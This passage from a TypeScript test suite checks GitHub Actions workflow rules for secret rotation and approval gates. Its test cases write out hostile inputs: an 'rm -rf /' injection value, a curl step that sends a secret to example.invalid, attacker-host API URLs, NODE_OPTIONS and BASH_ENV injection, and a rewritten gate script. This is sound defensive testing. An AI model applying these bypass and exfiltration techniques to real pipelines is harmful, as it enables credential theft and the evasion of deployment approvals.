    job(ownGroup, "rotate").concurrency = { group: "rotate-${{ matrix.env }}", "cancel-in-progress": false };
    expect(checkRotationIsolation(ownGroup).join("\n")).toMatch(/rotate: needs concurrency \{group: deploy-<its environment>/);
    const cancelling = clone(doc);
    job(cancelling, "rotate").concurrency = { group: "deploy-${{ matrix.env }}", "cancel-in-progress": true };
    expect(checkRotationIsolation(cancelling).join("\n")).toMatch(/rotate: needs concurrency/);

    const terraformHere = clone(doc);
    stepsOf(job(terraformHere, "rotate")).splice(2, 0, { run: 'terraform -chdir="$STACK_DIR" output -json > "outputs/$TF_ENV.json"' });
    expect(checkRotationIsolation(terraformHere).join("\n")).toMatch(/rotate: runs terraform/);

    const outputsWithApplyRole = clone(doc);
    const outConfigure = stepsOf(job(outputsWithApplyRole, "outputs")).find((s) => (s.uses ?? "").startsWith("aws-actions/"));
    if (!outConfigure?.with) throw new Error("no configure step");
    outConfigure.with["role-to-assume"] = "${{ vars.AWS_APPLY_ROLE_ARN }}";
    expect(checkRotationIsolation(outputsWithApplyRole).join("\n")).toMatch(/outputs: reads outputs for rotation, so it must run in <env>-plan with the plan role only/);

    const notNeeded = clone(doc);
    delete job(notNeeded, "rotate").needs;
    expect(checkRotationIsolation(notNeeded).join("\n")).toMatch(/must be uploaded by a job it needs directly/);
  });

  describe("the rotate step's script (run with bash -e as on GitHub, npm faked)", () => {
    const rotateStep = stepsOf(job(doc, "rotate")).find((x) => /npm run --silent rotate/.test(x.run ?? ""));
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), "rotate-step-"));
    const bin = path.join(dir, "bin");
    fs.mkdirSync(bin);
    // The fake npm records its arguments and exits with FAKE_NPM_STATUS, like `npm run rotate` would.
    fs.writeFileSync(path.join(bin, "npm"), '#!/bin/sh\nprintf "%s\\n" "$@" > "$FAKE_NPM_ARGS"\necho "{}"\nexit "$FAKE_NPM_STATUS"\n', { mode: 0o755 });
    afterAll(() => fs.rmSync(dir, { recursive: true, force: true }));

    const runStep = (status: number, minAgeDays: string) => {
      const work = fs.mkdtempSync(path.join(dir, "work-"));
      const argsFile = path.join(work, "npm-args");
      const result = spawnSync("bash", ["-e", "-c", rotateStep?.run ?? "exit 99"], {
        cwd: work,
        encoding: "utf8",
        env: { PATH: `${bin}:${process.env.PATH}`, TF_ENV: "dev", MIN_AGE_DAYS: minAgeDays, FAKE_NPM_STATUS: String(status), FAKE_NPM_ARGS: argsFile },
      });
      return { code: result.status, stdout: result.stdout, args: fs.readFileSync(argsFile, "utf8").trim().split("\n") };
    };

    it("passes the min_age_days input through the environment, only when it is set", () => {
      expect(rotateStep?.env?.MIN_AGE_DAYS).toBe("${{ inputs.min_age_days }}");
      const input = (doc.on.workflow_dispatch as { inputs: Record<string, { type: string; required: boolean }> }).inputs.min_age_days;
      expect(input).toMatchObject({ type: "string", required: false });
      expect(runStep(0, "").args).toEqual(["run", "--silent", "rotate", "--", "--env", "dev", "--all", "--json", "--audit-log", "reports/rotation-audit-dev.jsonl"]);
      expect(runStep(0, "0").args).toEqual(expect.arrayContaining(["--min-age-days", "0"]));
      expect(runStep(0, "3; rm -rf /").args).toContain("3; rm -rf /");
    });

    it("succeeds on 0 and on 10 (nothing to do), fails with an error annotation on 20 and 30", () => {
      expect(runStep(0, "").code).toBe(0);
      const nothing = runStep(10, "");
      expect(nothing.code).toBe(0);
      expect(nothing.stdout).toContain("::notice title=Nothing rotated (dev)::");
      for (const status of [20, 30]) {
        const failed = runStep(status, "");
        expect(failed.code).toBe(1);
        expect(failed.stdout).toContain(`::error title=Secret rotation failed (dev)::npm run rotate exited ${status}`);
      }
    });
  });

  it("notifies through an issue when rotation fails or is cancelled (a pending job displaced in deploy-<env>)", () => {
    const notify = job(doc, "notify");
    expect(notify.if).toBe("always() && (contains(needs.*.result, 'failure') || contains(needs.*.result, 'cancelled'))");
    // gates as well (issue #10): a failed gate skips outputs and rotate, and that month's rotation must not vanish silently.
    expect(notify.needs).toEqual(["gates", "outputs", "rotate"]);
    expect(notify.permissions).toEqual({ "issues": "write" });
  });

  it("the issue says why: the gates job's result and its `problems` output, through env, never spliced into the script", () => {
    const gates = job(doc, "gates");
    const gateStep = stepsOf(gates).find((s) => s.run === "node .github/scripts/check-environment-gates.js") as Step & { id?: string };
    expect(gateStep.id).toBe("gate");
    expect((gates as Job & { outputs?: Record<string, string> }).outputs).toEqual({ problems: "${{ steps.gate.outputs.problems }}" });
    const step = stepsOf(job(doc, "notify"))[0];
    expect(step.env).toMatchObject({ GATES_RESULT: "${{ needs.gates.result }}", GATE_PROBLEMS: "${{ needs.gates.outputs.problems }}" });
    const script = String(step.with?.script ?? "");
    expect(script).not.toMatch(/\$\{\{/);
    expect(script).toContain("process.env.GATES_RESULT");
    expect(script).toContain("process.env.GATE_PROBLEMS");
  });

  it("the issue body, as the script writes it, carries the gate's result and problems (backticks and newlines defused)", async () => {
    const script = String(stepsOf(job(doc, "notify"))[0].with?.script ?? "");
    const created: { body: string }[] = [];
    const github = {
      paginate: async () => [],
      rest: { issues: { listForRepo: {}, createComment: async () => undefined, create: async (o: { body: string }) => void created.push(o) } },
    };
    const context = { repo: { owner: "acme", repo: "infra" }, serverUrl: "https://github.com", runId: 42, eventName: "schedule" };
    const saved = { ...process.env };
    Object.assign(process.env, { GATES_RESULT: "failure", GATE_PROBLEMS: "prod: recorded approval: `carol` is who started this run\nx", OUTPUTS_RESULT: "skipped", ROTATE_RESULT: "skipped" });
    try {
      // github-script runs `script` as the body of an async function with these names in scope.
      const AsyncFunction = Object.getPrototypeOf(async () => undefined).constructor as new (...a: string[]) => (...v: unknown[]) => Promise<void>;
      await new AsyncFunction("github", "context", "process", script)(github, context, process);
    } finally {
      for (const k of ["GATES_RESULT", "GATE_PROBLEMS", "OUTPUTS_RESULT", "ROTATE_RESULT"]) if (saved[k] === undefined) delete process.env[k];
    }
    expect(created).toHaveLength(1);
    expect(created[0].body).toContain("Jobs: gates `failure`, outputs `skipped`, rotate `skipped`.");
    expect(created[0].body).toContain("The gates job ended `failure`, so nothing was rotated in any environment (dev included): `prod: recorded approval:  carol  is who started this run x`.");
  });

  it("rules fail on broken copies", () => {
    const weekly = clone(doc);
    weekly.on.schedule = [{ cron: "0 5 * * 1" }];
    expect(checkRotateTriggers(weekly).join("\n")).toMatch(/monthly schedule/);

    const noAll = clone(doc);
    (noAll.on.workflow_dispatch as { inputs: { environment: { options: string[] } } }).inputs.environment.options = ["dev", "staging", "prod"];
    expect(checkRotateTriggers(noAll).join("\n")).toMatch(/environment" choice input/);

    const smokeFirst = clone(doc);
    const s = stepsOf(job(smokeFirst, "rotate"));
    move(s, s.findIndex((x) => /--only token/.test(x.run ?? "")), s.findIndex((x) => /npm run --silent rotate/.test(x.run ?? "")));
    expect(checkRotateJobs(smokeFirst).join("\n")).toMatch(/--only token after rotating/);
  });
});

describe("rotate-secrets.yml: approval gates before the rotation role and the Terraform client's secret (issue #10)", () => {
  const { doc } = byName("rotate-secrets.yml");
  const violations = (mutate: (wf: Workflow) => void, base: Workflow = doc): string => {
    const wf = clone(base);
    mutate(wf);
    return checkApprovalGates(wf).join("\n");
  };
  const recheckIndex = (wf: Workflow): number => stepsOf(job(wf, "rotate")).findIndex((s) => /check-environment-gates/.test(s.run ?? ""));
  const recheckStep = (wf: Workflow): Step => stepsOf(job(wf, "rotate"))[recheckIndex(wf)];

  it("a gate job without environment checks staging and prod (dev's branches) before outputs; notify hears of its failure", () => {
    const gates = job(doc, "gates");
    expect([gates.environment, gates.needs, gates.if]).toEqual([undefined, undefined, undefined]);
    expect(permissionsOf(gates.permissions)).toEqual({ contents: "read", actions: "read", "pull-requests": "read" });
    const step = stepsOf(gates).find((s) => s.run === "node .github/scripts/check-environment-gates.js");
    expect(step?.env).toMatchObject({ GATE_ENVIRONMENTS: "staging prod", GATE_BRANCH_ONLY_ENVIRONMENTS: "dev" });
    expect(needsOf(job(doc, "outputs"))).toEqual(["gates"]);
    expect(needsOf(job(doc, "rotate"))).toEqual(["outputs"]);
  });

  it("the rotate job re-checks its own environment first: the script's own reading of the step gives reviewers for staging and prod, branches for dev", () => {
    const rotate = job(doc, "rotate");
    expect(permissionsOf(rotate.permissions).actions).toBe("read");
    const step = recheckStep(doc);
    expect(step.env?.GATE_ENVIRONMENTS).toBe("${{ matrix.env }}");
    // Each leg as GitHub would substitute matrix.env, read by the script itself (planChecks).
    const legs = ["dev", "staging", "prod"].map((env) => {
      const stepEnv = Object.fromEntries(Object.entries(step.env ?? {}).map(([k, v]) => [k, String(v).replace("${{ matrix.env }}", env)]));
      // The leg's own environment first; dev (branch-only) is checked on every leg, which costs one request.
      return planChecks(stepEnv).map((c) => `${c.environment}:${c.requireReviewers ? "reviewers" : "branches"}`);
    });
    expect(legs).toEqual([["dev:branches"], ["staging:reviewers", "dev:branches"], ["prod:reviewers", "dev:branches"]]);
    // An environment nobody listed as branch-only needs reviewers (deny by default).
    expect(planChecks({ GATE_ENVIRONMENTS: "qa", GATE_BRANCH_ONLY_ENVIRONMENTS: "dev" })[0]).toEqual({ environment: "qa", requireReviewers: true });
    const s = stepsOf(rotate);
    const firstCredential = s.findIndex((x) => (x.uses ?? "").startsWith("aws-actions/") || /secrets\.GENESYSCLOUD/.test(JSON.stringify(x.env ?? {})));
    expect(recheckIndex(doc)).toBeGreaterThanOrEqual(0);
    expect(recheckIndex(doc)).toBeLessThan(firstCredential);
    expect([step.if, (step as Step & { "continue-on-error"?: unknown })["continue-on-error"]]).toEqual([undefined, undefined]);
  });

  it("the rule flags the rotate job when outputs no longer needs the gate (the matrix is computed, so it may be staging or prod)", () => {
    const out = violations((wf) => delete job(wf, "outputs").needs);
    expect(out).toMatch(/rotate: runs in protected environment "staging" without \(transitively\) needing a gate job that checks "staging"/);
    expect(out).toMatch(/rotate: runs in protected environment "prod" without/);
    // The plan-environment job itself is not protected; the rotate-specific test above pins its dependency.
    expect(out).not.toMatch(/^outputs:/m);
  });

  it("the rule flags a missing, late, conditional or misdirected re-check", () => {
    expect(violations((wf) => stepsOf(job(wf, "rotate")).splice(recheckIndex(wf), 1))).toMatch(/rotate: must check again that "staging" is gated, in the job, before it assumes a role or reads a secret/);
    const late = violations((wf) => {
      const s = stepsOf(job(wf, "rotate"));
      move(s, recheckIndex(wf), s.findIndex((x) => (x.uses ?? "").startsWith("aws-actions/")));
    });
    expect(late).toMatch(/rotate: must check again that "prod" is gated/);
    expect(violations((wf) => (recheckStep(wf).if = "matrix.env == 'dev'"))).toMatch(/rotate: must check again that "prod"/);
    // After `npm ci` (the toolchain action): with id-token: write, dependencies' code could already mint the OIDC token.
    const afterNpm = (wf: Workflow, id: string) => {
      const s = stepsOf(job(wf, id));
      move(s, s.findIndex((x) => /check-environment-gates/.test(x.run ?? "")), s.findIndex((x) => x.uses === "./.github/actions/setup-toolchain"));
    };
    expect(violations((wf) => afterNpm(wf, "rotate"))).toMatch(/rotate: must check again that "staging" is gated.*with id-token: write only checkout and setup-node may run before it/);
    expect(checkApprovalGates((() => {
      const wf = clone(byName("deploy.yml").doc);
      afterNpm(wf, "apply-prod");
      return wf;
    })()).join("\n")).toMatch(/apply-prod: must check again that "prod" is gated.*only checkout and setup-node/);
    // The leg's own environment declared branch-only: the script would not ask for reviewers.
    expect(violations((wf) => (recheckStep(wf).env = { ...recheckStep(wf).env, GATE_BRANCH_ONLY_ENVIRONMENTS: "dev ${{ matrix.env }}" }))).toMatch(/rotate: must check again that "staging"/);
    // The leg's environment an expression, staging and prod literally branch-only (re-review R1): the script refuses
    // such a list, and the rule counts the step as no re-check at all; in any case.
    for (const branchOnly of ["dev staging prod", "dev,Prod", "STAGING"]) {
      const out = violations((wf) => (recheckStep(wf).env = { ...recheckStep(wf).env, GATE_BRANCH_ONLY_ENVIRONMENTS: branchOnly }));
      expect([branchOnly, out]).toEqual([branchOnly, expect.stringMatching(/rotate: must check again that "prod" is gated/)]);
      expect(out).toMatch(/rotate: must check again that "staging" is gated/);
    }
    const stagingOnly = violations((wf) => (recheckStep(wf).env = { ...recheckStep(wf).env, GATE_ENVIRONMENTS: "staging" }));
    expect(stagingOnly).toMatch(/rotate: must check again that "prod"/);
    expect(stagingOnly).not.toMatch(/"staging" is gated/);
    expect(violations((wf) => (job(wf, "rotate").env = { ...job(wf, "rotate").env, TOKEN: "${{ secrets.GENESYSCLOUD_OAUTHCLIENT_SECRET }}" }))).toMatch(/rotate: its job env reads a secret/);
  });

  it("the rule flags a gate that leaves prod out, or that lists it as branch-only", () => {
    const gateStep = (wf: Workflow): Step => stepsOf(job(wf, "gates")).find((s) => /check-environment-gates/.test(s.run ?? "")) as Step;
    expect(violations((wf) => (gateStep(wf).env = { ...gateStep(wf).env, GATE_ENVIRONMENTS: "staging" }))).toMatch(/rotate: runs in protected environment "prod" without/);
    expect(violations((wf) => (gateStep(wf).env = { ...gateStep(wf).env, GATE_BRANCH_ONLY_ENVIRONMENTS: "dev prod" }))).toMatch(/rotate: runs in protected environment "prod" without/);
  });

  it("every gate step takes GATE_MODE from the repository variable, in a job that may read pull requests (recorded approval)", () => {
    for (const file of ["deploy.yml", "rotate-secrets.yml"]) {
      const wf = byName(file).doc;
      const gateSteps = Object.entries(wf.jobs).flatMap(([id, j]) => stepsOf(j).filter((s) => /check-environment-gates/.test(s.run ?? "")).map((s) => [id, s] as const));
      expect(gateSteps.length).toBeGreaterThanOrEqual(2);
      for (const [id, s] of gateSteps) {
        expect([id, s.env?.GATE_MODE]).toEqual([id, "${{ vars.GATE_MODE }}"]);
        expect([id, permissionsOf(job(wf, id).permissions)["pull-requests"]]).toEqual([id, "read"]);
      }
    }
    expect(violations((wf) => (recheckStep(wf).env = { ...recheckStep(wf).env, GATE_MODE: "recorded-approval" }))).toMatch(/rotate: GATE_MODE must come from the repository variable/);
    expect(violations((wf) => (job(wf, "gates").permissions = { contents: "read", actions: "read" }))).toMatch(/gates: passes GATE_MODE, so it needs permissions pull-requests: read/);
  });

  it("reads matrices: a literal dev-only matrix needs no gate, an include that adds prod does", () => {
    const devOnly = (wf: Workflow) => {
      for (const id of ["outputs", "rotate"]) job(wf, id).strategy = { matrix: { env: ["dev"] } };
      delete job(wf, "outputs").needs;
      stepsOf(job(wf, "rotate")).splice(recheckIndex(wf), 1);
    };
    expect(violations(devOnly)).toBe("");
    const withProd = violations((wf) => {
      devOnly(wf);
      job(wf, "rotate").strategy = { matrix: { env: ["dev"], include: [{ env: "prod" }] } };
    });
    expect(withProd).toMatch(/rotate: runs in protected environment "prod" without/);
    expect(withProd).not.toMatch(/"staging"/);
    // A second key equal but for case (ENV beside env) is read as the same key: its prod counts.
    expect(violations((wf) => {
      devOnly(wf);
      job(wf, "rotate").strategy = { matrix: { env: ["dev"], ENV: ["prod"] } };
    })).toMatch(/rotate: runs in protected environment "prod" without/);
    expect(violations((wf) => {
      devOnly(wf);
      job(wf, "rotate").strategy = { matrix: { env: ["dev"], include: [{ Env: "prod" }] } };
    })).toMatch(/rotate: runs in protected environment "prod" without/);
  });

  it("drift.yml (no gate job: plan environments only) would be flagged if a job entered staging or prod", () => {
    const drift = byName("drift.yml").doc;
    expect(checkApprovalGates(drift)).toEqual([]);
    const out = violations((wf) => (job(wf, "drift").environment = "${{ matrix.env }}"), drift);
    expect(out).toMatch(/drift: runs in protected environment "staging" without/);
    expect(out).toMatch(/drift: runs in protected environment "prod" without/);
    expect(out).toMatch(/no job runs \.github\/scripts\/check-environment-gates\.js/);
    expect(violations((wf) => (job(wf, "drift").environment = "${{ inputs.env }}"), drift)).toMatch(/drift: environment "\$\{\{ inputs.env \}\}" is an expression this rule cannot read/);
  });
});

/** The approval-gate rule's violations, as one text, for a mutated copy of a workflow (deploy.yml by default). */
function gateViolationsOf(mutate: (wf: Workflow) => void, base: Workflow = byName("deploy.yml").doc): string {
  const wf = clone(base);
  mutate(wf);
  return checkApprovalGates(wf).join("\n");
}

describe("approval-gate rule: the holes the attacker review found (F3) are closed", () => {
  const gates = gateViolationsOf;
  const recheckIndex = (wf: Workflow, id: string): number => stepsOf(job(wf, id)).findIndex((s) => /check-environment-gates/.test(s.run ?? ""));
  const gateStep = (wf: Workflow, id = "gates"): Step => stepsOf(job(wf, id))[recheckIndex(wf, id)];
  const dropRecheck = (wf: Workflow, id: string) => stepsOf(job(wf, id)).splice(recheckIndex(wf, id), 1);

  it("environment names are case-insensitive: Prod and { name: PROD } are prod", () => {
    const titled = gates((wf) => {
      job(wf, "apply-prod").environment = "Prod";
      dropRecheck(wf, "apply-prod");
    });
    expect(titled).toMatch(/apply-prod: must check again that "prod" is gated/);
    const upper = gates((wf) => {
      wf.jobs["hotfix-prod"] = { ...clone(job(wf, "apply-prod")), needs: "synth", environment: { name: "PROD", url: "https://example.invalid" } };
    });
    expect(upper).toMatch(/hotfix-prod: runs in protected environment "prod" without \(transitively\) needing a gate job/);
    // A gate step naming PROD checks prod (GitHub answers either spelling): still passes.
    expect(gates((wf) => (gateStep(wf).env = { ...gateStep(wf).env, GATE_ENVIRONMENTS: "STAGING Prod" }))).toBe("");
  });

  it("a job calling a workflow of another repository or ref (secrets: inherit) is flagged; a local one is a checked file itself", () => {
    const remote = gates((wf) => {
      wf.jobs.deploy = { uses: "myorg/genesys-eventbridge-infra/.github/workflows/deploy.yml@0123456789abcdef0123456789abcdef01234567", needs: "gates", permissions: { contents: "read" } } as Job;
      Object.assign(wf.jobs.deploy, { secrets: "inherit" });
    });
    expect(remote).toMatch(/deploy: calls the workflow "myorg\/genesys-eventbridge-infra\/\.github\/workflows\/deploy\.yml@0123\w+", which this rule cannot check/);
    expect(gates((wf) => (wf.jobs.deploy = { uses: "./.github/workflows/deploy.yml@main", permissions: {} } as Job))).toMatch(/deploy: calls the workflow/);
    expect(gates((wf) => (wf.jobs.lint = { uses: "./.github/workflows/ci.yml", permissions: {} } as Job))).toBe("");
    // Without any gate job, a remote call alone is enough to demand one.
    const drift = byName("drift.yml").doc;
    expect(gates((wf) => (wf.jobs.x = { uses: "o/r/.github/workflows/x.yml@v1" } as Job), drift)).toMatch(/no job runs \.github\/scripts\/check-environment-gates\.js/);
  });

  it("status functions in any case, and success() || true, on the way from the gate", () => {
    expect(gates((wf) => (job(wf, "apply-prod").if = "${{ ALWAYS() }}"))).toMatch(/apply-prod: apply-prod has if: \$\{\{ ALWAYS\(\) \}\}, which would run it after the gate failed/);
    expect(gates((wf) => (job(wf, "plan-prod").if = "Failure() || true"))).toMatch(/apply-prod: plan-prod has if: Failure\(\) \|\| true/);
    expect(gates((wf) => (job(wf, "apply-prod").if = "success() || true"))).toMatch(/apply-prod: apply-prod has if: success\(\) \|\| true/);
  });

  it("secret reads in every spelling count as credentials: before the re-check, in job env, in services or container credentials", () => {
    const before = (stepEnv: Record<string, unknown>) =>
      gates((wf) => stepsOf(job(wf, "apply-prod")).splice(0, 0, { name: "leak", env: stepEnv, run: 'curl -d "$S" https://example.invalid' }));
    for (const expr of ["${{ secrets['GENESYSCLOUD_OAUTHCLIENT_SECRET'] }}", "${{ SECRETS.GENESYSCLOUD_OAUTHCLIENT_SECRET }}", "${{ toJSON(secrets) }}", '${{ secrets["X"] }}']) {
      expect([expr, before({ S: expr })]).toEqual([expr, expect.stringMatching(/apply-prod: must check again that "prod" is gated/)]);
    }
    expect(gates((wf) => (job(wf, "apply-prod").env = { ...job(wf, "apply-prod").env, ALL: "${{ toJSON(secrets) }}" }))).toMatch(/apply-prod: its job env reads a secret/);
    expect(gates((wf) => (wf.env = { ...wf.env, S: "${{ secrets.GENESYSCLOUD_OAUTHCLIENT_SECRET }}" }))).toMatch(/the workflow env reads a secret/);
    const creds = { image: `ghcr.io/a/b@sha256:${"0".repeat(64)}`, credentials: { username: "u", password: "${{ secrets.REGISTRY_PASSWORD }}" } };
    expect(gates((wf) => Object.assign(job(wf, "apply-prod"), { services: { x: creds } }))).toMatch(/apply-prod: its services reads a secret/);
    expect(gates((wf) => Object.assign(job(wf, "apply-prod"), { container: creds }))).toMatch(/apply-prod: its container reads a secret/);
    // The gate's own read token and the job token are no credentials; a word "secrets" outside an expression neither.
    expect(readsSecret({ GITHUB_TOKEN: "${{ secrets.ENVIRONMENTS_READ_TOKEN || github.token }}", N: "Rotate secrets" })).toBe(false);
    expect(readsSecret({ T: "${{ secrets.ENVIRONMENTS_READ_TOKEN_2 }}" })).toBe(true);
  });

  it("a re-check in a protected job that holds no recognised credential is judged as that job, not as a gate job", () => {
    const out = gates((wf) => {
      wf.jobs.genesys = { needs: "synth", "runs-on": "ubuntu-24.04", environment: "prod", permissions: { contents: "read", actions: "read" }, steps: [{ env: { GITHUB_TOKEN: "${{ github.token }}", GATE_ENVIRONMENTS: "prod" }, run: "node .github/scripts/check-environment-gates.js" }] } as Job;
    });
    expect(out).toMatch(/genesys: runs in protected environment "prod" without \(transitively\) needing a gate job/);
    expect(out).not.toMatch(/genesys: the gate job/);
  });

  it.each([
    ["shell", (s: Step) => Object.assign(s, { shell: "true {0}" }), /gates: the gate step must not set shell/],
    ["working-directory", (s: Step) => Object.assign(s, { "working-directory": "fake" }), /gates: the gate step must not set working-directory/],
    ["NODE_OPTIONS", (s: Step) => (s.env = { ...s.env, NODE_OPTIONS: "--require ./pass.js" }), /gates: the gate step may set only GITHUB_TOKEN, GATE_MODE, GATE_ENVIRONMENTS, GATE_BRANCH_ONLY_ENVIRONMENTS in env, not NODE_OPTIONS/],
    ["GITHUB_API_URL", (s: Step) => (s.env = { ...s.env, GITHUB_API_URL: "https://attacker.example" }), /not GITHUB_API_URL/],
    ["GITHUB_REPOSITORY", (s: Step) => (s.env = { ...s.env, GITHUB_REPOSITORY: "attacker/public-copy" }), /not GITHUB_REPOSITORY/],
    ["GATE_DEPLOY_BRANCHES", (s: Step) => (s.env = { ...s.env, GATE_DEPLOY_BRANCHES: "main feature" }), /not GATE_DEPLOY_BRANCHES/],
    // The script reads these default variables (its closing line, its `problems` output); a step must not choose them.
    ["GITHUB_WORKFLOW", (s: Step) => (s.env = { ...s.env, GITHUB_WORKFLOW: "Deploy" }), /not GITHUB_WORKFLOW/],
    ["GITHUB_OUTPUT", (s: Step) => (s.env = { ...s.env, GITHUB_OUTPUT: "/dev/null" }), /not GITHUB_OUTPUT/],
    ["another token", (s: Step) => (s.env = { ...s.env, GITHUB_TOKEN: "${{ secrets.OTHER_TOKEN }}" }), /gates: the gate step must get GITHUB_TOKEN from github\.token/],
  ])("the gate step neutered by %s (in the gate job and in a re-check)", (_what, mutate, expected) => {
    expect(gates((wf) => mutate(gateStep(wf)))).toMatch(expected);
    expect(gates((wf) => mutate(gateStep(wf, "apply-prod")))).toMatch(new RegExp(expected.source.replace("gates:", "apply-prod:")));
  });

  it("the gate script rewritten or replaced before it runs, or steered from the job or workflow", () => {
    expect(gates((wf) => stepsOf(job(wf, "gates")).splice(recheckIndex(wf, "gates"), 0, { run: "echo 'process.exit(0)' > .github/scripts/check-environment-gates.js" }))).toMatch(
      /gates: step 3 \(run\) runs before the gate script; only checkout of this commit/,
    );
    const checkoutOther = gates((wf) => (stepsOf(job(wf, "gates"))[0].with = { repository: "attacker/copy", ref: "main" }));
    expect(checkoutOther).toMatch(/gates: step 1 \(Check out\) runs before the gate script/);
    expect(gates((wf) => (stepsOf(job(wf, "apply-prod"))[1].with = { "node-version": "22", mirror: "https://attacker.example" }))).toMatch(/apply-prod: step 2 \(.*\) runs before the gate script/);
    expect(gates((wf) => (job(wf, "apply-prod").env = { ...job(wf, "apply-prod").env, NODE_OPTIONS: "--require ./x.js" }))).toMatch(/apply-prod: runs the gate script, so its job env must not set NODE_OPTIONS/);
    expect(gates((wf) => (wf.env = { ...wf.env, GITHUB_API_URL: "https://attacker.example", PATH: "/tmp" }))).toMatch(/gates: runs the gate script, so its workflow env must not set GITHUB_API_URL, PATH/);
    expect(gates((wf) => Object.assign(wf, { defaults: { run: { shell: "true {0}" } } }))).toMatch(/gates: runs the gate script, so its workflow must set no defaults/);
    expect(gates((wf) => Object.assign(job(wf, "gates"), { defaults: { run: { "working-directory": "fake" } } }))).toMatch(/gates: runs the gate script, so its job must set no defaults/);
  });

  it("a workflow that enters staging or prod runs on no pull_request_target or workflow_run", () => {
    expect(gates((wf) => (wf.on = { ...wf.on, pull_request_target: { branches: ["main"] } }))).toMatch(/on\.pull_request_target: a workflow that enters staging or prod must not run on pull_request_target/);
    expect(gates((wf) => (wf.on = { ...wf.on, workflow_run: { workflows: ["CI"], types: ["completed"] } }))).toMatch(/on\.workflow_run: /);
    // drift.yml enters no protected environment: the trigger rule does not concern it.
    expect(gates((wf) => (wf.on = { ...wf.on, workflow_run: { workflows: ["CI"] } }), byName("drift.yml").doc)).toBe("");
    // ...unless it calls a local workflow, which may (re-review R3): with `secrets: inherit` deploy.yml would run on the
    // pull request's behalf. A caller on pull_request (no secrets for forks) stays allowed.
    const caller = (on: Workflow["on"]) => (wf: Workflow) => {
      wf.on = on;
      wf.jobs.call = { uses: "./.github/workflows/deploy.yml", secrets: "inherit", permissions: { contents: "read" } } as unknown as Job;
    };
    const drift = byName("drift.yml").doc;
    expect(gates(caller({ pull_request_target: {} }), drift)).toMatch(
      /on\.pull_request_target: a workflow that enters staging or prod, or calls one that may \(call calls \.\/\.github\/workflows\/deploy\.yml\), must not run on pull_request_target/,
    );
    expect(gates(caller({ workflow_run: { workflows: ["CI"] } }), drift)).toMatch(/on\.workflow_run: a workflow that enters staging or prod, or calls one that may/);
    expect(gates(caller({ pull_request: {} }), drift)).toBe("");
  });
});

describe("approval-gate rule: what the re-review found (R2, R4) is closed", () => {
  const gates = gateViolationsOf;
  const gateAt = (wf: Workflow, id: string): number => stepsOf(job(wf, id)).findIndex((s) => /check-environment-gates/.test(s.run ?? ""));
  const decoy = (extra: Partial<Step>): Step => ({ env: { GITHUB_TOKEN: "${{ github.token }}", GATE_MODE: "${{ vars.GATE_MODE }}", GATE_ENVIRONMENTS: "prod" }, run: "node .github/scripts/check-environment-gates.js", ...extra });
  const rewrite: Step = { run: "echo 'process.exit(0)' > .github/scripts/check-environment-gates.js" };
  const fakeNode: Step = { run: 'mkdir -p /tmp/b && printf "#!/bin/sh\\nexit 0\\n" > /tmp/b/node && chmod +x /tmp/b/node && echo /tmp/b >> "$GITHUB_PATH"' };
  /** Inserts steps just before the job's (real) gate step. */
  const before = (id: string, ...inserted: Step[]) => (wf: Workflow) => stepsOf(job(wf, id)).splice(gateAt(wf, id), 0, ...inserted);

  it("the real workflows pass (the allow-lists are what they use)", () => {
    for (const file of ["deploy.yml", "rotate-secrets.yml"]) expect([file, checkApprovalGates(byName(file).doc)]).toEqual([file, []]);
  });

  it("A: a decoy gate step first (if: false, or on dev), then a step that rewrites the script, runs a local action or adds to $GITHUB_PATH, then the real one", () => {
    const conditional = gates(before("apply-prod", decoy({ if: "${{ false }}" }), rewrite));
    expect(conditional).toMatch(/apply-prod: step 4 \(run\) runs before the gate script; only checkout of this commit/);
    expect(conditional).toMatch(/apply-prod: enters staging or prod, so its gate steps must not be conditional or continue on error \(if: "\$\{\{ false \}\}"\)/);
    const onDev = gates(before("apply-prod", decoy({ env: { GITHUB_TOKEN: "${{ github.token }}", GATE_ENVIRONMENTS: "dev", GATE_BRANCH_ONLY_ENVIRONMENTS: "dev" } }), { uses: "./.github/actions/setup-toolchain" }, fakeNode));
    expect(onDev).toMatch(/apply-prod: step 4 \(\.\/\.github\/actions\/setup-toolchain\) runs before the gate script/);
    expect(onDev).toMatch(/apply-prod: step 5 \(run\) runs before the gate script/);
    // In the gate job too (its checked list is the union of its gate steps).
    expect(gates(before("gates", decoy({ env: { GITHUB_TOKEN: "${{ github.token }}", GATE_ENVIRONMENTS: "dev", GATE_BRANCH_ONLY_ENVIRONMENTS: "dev" } }), rewrite))).toMatch(/gates: step 4 \(run\) runs before the gate script/);
    // The same re-check that stops the credential step, conditional: flagged as such besides the missing re-check.
    expect(gates((wf) => (stepsOf(job(wf, "apply-staging"))[gateAt(wf, "apply-staging")].if = "${{ github.ref == 'refs/heads/main' }}"))).toMatch(/apply-staging: enters staging or prod, so its gate steps must not be conditional/);
  });

  it.each(["BASH_ENV", "ENV", "SHELLOPTS", "BASHOPTS", "PS4", "NOT_LISTED"])("B: %s in job or workflow env (an allow-list in workflows that enter staging or prod)", (key) => {
    expect(gates((wf) => (job(wf, "apply-prod").env = { ...job(wf, "apply-prod").env, [key]: "$(echo 'process.exit(0)' > .github/scripts/check-environment-gates.js)" }))).toMatch(
      new RegExp(`apply-prod: job env sets ${key}; a workflow that enters staging or prod may set only TF_IN_AUTOMATION, TF_INPUT, TF_ENV, STACK_DIR, PLAN_SHA256, SMOKE_CANARY there`),
    );
    // In a job that does not run the gate (synth), and at the workflow level, of rotate-secrets.yml too.
    expect(gates((wf) => (job(wf, "synth").env = { [key]: "./x.sh" }))).toMatch(new RegExp(`synth: job env sets ${key};`));
    expect(gates((wf) => (wf.env = { ...wf.env, [key]: "./x.sh" }), byName("rotate-secrets.yml").doc)).toMatch(new RegExp(`^workflow env sets ${key};`, "m"));
  });

  it("B: the shell-steering names are denied in any job that runs the gate script, also in a workflow that enters no protected environment", () => {
    const devOnly = (wf: Workflow) => {
      for (const id of Object.keys(wf.jobs)) if (/staging|prod/.test(id)) delete wf.jobs[id];
      wf.env = { ...wf.env, BASH_ENV: "./x.sh" };
    };
    expect(gates(devOnly)).toMatch(/gates: runs the gate script, so its workflow env must not set BASH_ENV/);
  });

  it("C: container: on a job that runs the gate script (its image runs the gate's shell and node)", () => {
    const image = { image: `ghcr.io/someone/node@sha256:${"0".repeat(64)}` };
    expect(gates((wf) => Object.assign(job(wf, "apply-prod"), { container: image }))).toMatch(/apply-prod: runs the gate script, so it must not set container:/);
